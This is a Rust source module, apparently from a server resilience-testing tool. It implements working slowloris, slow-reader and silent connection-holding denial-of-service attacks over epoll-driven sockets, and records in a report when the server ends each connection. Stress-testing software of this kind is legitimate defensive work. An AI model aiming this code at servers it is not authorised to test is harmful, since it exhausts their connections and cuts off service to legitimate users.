//! The attacks that open their connections once and hold them for the run:
//!
//! - silent: send nothing, read (and discard) whatever comes;
//! - slowloris: drip a frame one byte per interval, read (and discard) what comes back;
//! - slow-reader: write messages as fast as the connection takes them, never read,
//!   with a small receive buffer; a connection is stalled once its writes made no
//!   progress for an interval.
//!
//! Each notes when the server ends a connection, measured from its connect.

use super::net::{self, Dialed, Dialer, Ended, Fail, Poller, Wrote};
use super::report::{AttackReport, Spread, Tally};
use super::{Attack, Ticker, CONNECT_SCAN};
use rustix::event::epoll::EventFlags;
use socket2::Socket;
use std::time::{Duration, Instant};

/// Slow-reader: receive buffer asked for before connecting (the kernel doubles it).
const SLOW_READER_RCVBUF: usize = 4096;
/// Slow-reader: send buffer, kept small so the bytes written measure what the server
/// took in rather than what this side's kernel queued.
const SLOW_READER_SNDBUF: usize = 64 * 1024;
/// Slowloris: how early a byte may go to share a pass with others (at most a tenth of
/// the interval).
const DRIP_SLACK: Duration = Duration::from_millis(10);
/// Slow-reader: bytes one connection writes per wakeup before the others get a turn.
const WRITE_BUDGET: usize = 256 * 1024;

/// What the held connections do.
pub struct Plan {
    pub attack: Attack,
    pub connections: usize,
    pub duration: Duration,
    pub connect_timeout: Duration,
    /// Slowloris: time between bytes; slow-reader: the stall threshold.
    pub interval: Duration,
    /// Slowloris: the frame dripped (again and again); slow-reader: whole messages
    /// written in a loop.
    pub data: Vec<u8>,
    pub progress: bool,
}

enum State {
    Connecting,
    Open,
    Gone,
}

struct Held {
    socket: Option<Socket>,
    state: State,
    /// When the connect started, then when it completed.
    since: Instant,
    /// Slow-reader: the last write that moved bytes; slowloris: the next byte's time.
    mark: Instant,
    /// Where in `data` the next byte comes from.
    pos: usize,
    sent: u64,
    received: u64,
}

struct Run<'a> {
    plan: &'a Plan,
    poller: Poller,
    conns: Vec<Held>,
    tally: Tally,
    open: u64,
    pending: u64,
    /// Slowloris: the earliest `mark` of an open connection (when to drip next).
    next_drip: Option<Instant>,
    written: Vec<f64>,
    buf: Vec<u8>,
}

pub fn run(plan: &Plan, mut dialer: Dialer, target: String) -> anyhow::Result<AttackReport> {
    if plan.attack == Attack::SlowReader {
        dialer.recv_buffer = Some(SLOW_READER_RCVBUF);
        dialer.send_buffer = Some(SLOW_READER_SNDBUF);
    }
    let mut run = Run {
        plan,
        poller: Poller::new()?,
        conns: Vec::with_capacity(plan.connections),
        tally: Tally::default(),
        open: 0,
        pending: 0,
        next_drip: None,
        written: Vec::new(),
        buf: vec![0; 64 * 1024],
    };
    let start = Instant::now();
    let end = start + plan.duration;
    for i in 0..plan.connections {
        run.dial(&mut dialer, i)?;
    }

    let mut ticker = Ticker::new(plan.progress, start);
    let mut next_scan = Instant::now() + CONNECT_SCAN;
    let mut ready = Vec::new();
    loop {
        let now = Instant::now();
        if now >= end {
            break;
        }
        let mut wake = end.min(next_scan).min(ticker.next());
        if let Some(drip) = run.next_drip {
            wake = wake.min(drip);
        }
        run.poller
            .wait(wake.saturating_duration_since(now), &mut ready)?;
        let now = Instant::now();
        for &(token, flags) in &ready {
            run.event(token as usize, flags, now)?;
        }
        if run.next_drip.is_some_and(|t| t <= now) {
            run.drip(now);
        }
        if now >= next_scan {
            run.expire_connects(now);
            next_scan = now + CONNECT_SCAN;
        }
        if ticker.due(now) {
            let line = format!(
                "open {}  closed {}  refused {}  pending {}  sent {} B",
                run.open,
                run.tally.closes.total(),
                run.tally.refused(),
                run.pending,
                run.tally.bytes_sent
            );
            ticker.print(now, &line);
        }
    }
    ticker.finish();
    Ok(run.finish(start, target))
}

impl Run<'_> {
    fn dial(&mut self, dialer: &mut Dialer, i: usize) -> anyhow::Result<()> {
        let now = Instant::now();
        self.tally.attempted += 1;
        let mut held = Held {
            socket: None,
            state: State::Gone,
            since: now,
            mark: now,
            pos: 0,
            sent: 0,
            received: 0,
        };
        match dialer.dial()? {
            Dialed::Pending(socket) => {
                self.poller.add(&socket, i as u64, net::CONNECTING)?;
                held.socket = Some(socket);
                held.state = State::Connecting;
                self.pending += 1;
                self.conns.push(held);
            }
            Dialed::Connected(socket) => {
                self.poller.add(&socket, i as u64, net::CONNECTING)?;
                held.socket = Some(socket);
                self.conns.push(held);
                self.opened(i, now)?;
            }
            Dialed::Failed(fail, e) => {
                self.tally.connect_failed(fail, Some(&e));
                self.conns.push(held);
            }
        }
        Ok(())
    }

    /// Connection `i` completed its connect at `now`: start its part.
    fn opened(&mut self, i: usize, now: Instant) -> anyhow::Result<()> {
        self.tally.connected += 1;
        self.open += 1;
        let interest = match self.plan.attack {
            Attack::SlowReader => net::WRITER,
            _ => net::READABLE,
        };
        let held = &mut self.conns[i];
        held.state = State::Open;
        held.since = now;
        held.mark = now;
        if let Some(socket) = &held.socket {
            self.poller.modify(socket, i as u64, interest)?;
        }
        if self.plan.attack == Attack::Slowloris {
            // The first byte goes at once; then one per interval.
            self.next_drip = Some(self.next_drip.map_or(now, |t| t.min(now)));
        }
        Ok(())
    }

    /// Connection `i`, open, was ended by the server.
    fn ended(&mut self, i: usize, how: Ended, now: Instant) {
        let held = &mut self.conns[i];
        held.socket = None;
        held.state = State::Gone;
        self.open -= 1;
        let moved = held.sent > 0 || held.received > 0;
        self.tally
            .ended(how, now.saturating_duration_since(held.since), moved);
        self.written.push(held.sent as f64);
    }

    fn event(&mut self, i: usize, flags: EventFlags, now: Instant) -> anyhow::Result<()> {
        let Some(held) = self.conns.get(i) else {
            return Ok(());
        };
        let Some(socket) = &held.socket else {
            return Ok(());
        };
        match held.state {
            State::Gone => {}
            State::Connecting => {
                let result = net::finish_connect(socket);
                self.pending -= 1;
                match result {
                    Ok(()) => self.opened(i, now)?,
                    Err(e) => {
                        let held = &mut self.conns[i];
                        held.socket = None;
                        held.state = State::Gone;
                        self.tally.connect_failed(Fail::of(&e), Some(&e));
                    }
                }
            }
            State::Open if self.plan.attack == Attack::SlowReader => {
                if flags.intersects(net::GONE) {
                    let how = Ended::after_hangup(socket);
                    self.ended(i, how, now);
                } else if flags.contains(EventFlags::OUT) {
                    self.write_burst(i, now);
                }
            }
            State::Open => {
                let mut got = 0;
                let end = net::drain(socket, &mut self.buf, &mut got);
                self.conns[i].received += got;
                self.tally.bytes_received += got;
                if let Some(how) = end {
                    self.ended(i, how, now);
                }
            }
        }
        Ok(())
    }

    /// Slow-reader: write until the connection takes no more (or the budget is spent).
    fn write_burst(&mut self, i: usize, now: Instant) {
        let data = &self.plan.data;
        let held = &mut self.conns[i];
        let Some(socket) = &held.socket else { return };
        let mut budget = WRITE_BUDGET;
        let mut end = None;
        while budget > 0 {
            match net::write_some(socket, &data[held.pos..]) {
                Wrote::Bytes(n) => {
                    held.pos = (held.pos + n) % data.len();
                    held.sent += n as u64;
                    held.mark = now;
                    self.tally.bytes_sent += n as u64;
                    budget = budget.saturating_sub(n);
                }
                Wrote::Blocked => break,
                Wrote::Ended(how) => {
                    end = Some(how);
                    break;
                }
            }
        }
        if let Some(how) = end {
            self.ended(i, how, now);
        }
    }

    /// Slowloris: one byte to every open connection whose turn it is.
    fn drip(&mut self, now: Instant) {
        let interval = self.plan.interval;
        // Bytes due within the slack go now: connections that opened a few ms apart then
        // share one pass over all of them instead of one pass each.
        let due = now + (interval / 10).min(DRIP_SLACK);
        let data = &self.plan.data;
        let mut next: Option<Instant> = None;
        let mut gone = Vec::new();
        for (i, held) in self.conns.iter_mut().enumerate() {
            let (State::Open, Some(socket)) = (&held.state, &held.socket) else {
                continue;
            };
            if held.mark <= due {
                match net::write_some(socket, &data[held.pos..=held.pos]) {
                    Wrote::Bytes(n) => {
                        held.pos = (held.pos + n) % data.len();
                        held.sent += n as u64;
                        self.tally.bytes_sent += n as u64;
                    }
                    // Not taken: the byte is tried again at the next turn.
                    Wrote::Blocked => {}
                    Wrote::Ended(how) => {
                        gone.push((i, how));
                        continue;
                    }
                }
                held.mark += interval;
                if held.mark <= now {
                    held.mark = now + interval;
                }
            }
            next = Some(next.map_or(held.mark, |t| t.min(held.mark)));
        }
        self.next_drip = next;
        for (i, how) in gone {
            self.ended(i, how, now);
        }
    }

    /// Give up connects older than the connect timeout.
    fn expire_connects(&mut self, now: Instant) {
        let limit = self.plan.connect_timeout;
        for held in &mut self.conns {
            if matches!(held.state, State::Connecting) && now - held.since >= limit {
                held.socket = None;
                held.state = State::Gone;
                self.pending -= 1;
                self.tally.connect_failed(Fail::Timeout, None);
            }
        }
    }

    fn finish(mut self, start: Instant, target: String) -> AttackReport {
        let now = Instant::now();
        let slow_reader = self.plan.attack == Attack::SlowReader;
        let (mut stalled, mut stalled_after) = (0, Vec::new());
        for held in &self.conns {
            if !matches!(held.state, State::Open) {
                continue;
            }
            self.written.push(held.sent as f64);
            if slow_reader && now.saturating_duration_since(held.mark) >= self.plan.interval {
                stalled += 1;
                stalled_after.push((held.mark - held.since).as_secs_f64());
            }
        }
        let (open, pending) = (self.open, self.pending);
        // Close every socket before the report is made (the end of the run).
        self.conns.clear();
        let mut written = std::mem::take(&mut self.written);
        let mut report = self
            .tally
            .into_report(self.plan.attack, target, now - start);
        report.open_at_end = open;
        report.pending_at_end = pending;
        match self.plan.attack {
            Attack::Slowloris => report.interval_secs = Some(self.plan.interval.as_secs_f64()),
            Attack::SlowReader => {
                report.interval_secs = Some(self.plan.interval.as_secs_f64());
                report.stalled = Some(stalled);
                report.stalled_after_secs = Spread::of(&mut stalled_after);
                report.written_per_conn = Spread::of(&mut written);
            }
            _ => {}
        }
        report
    }
}
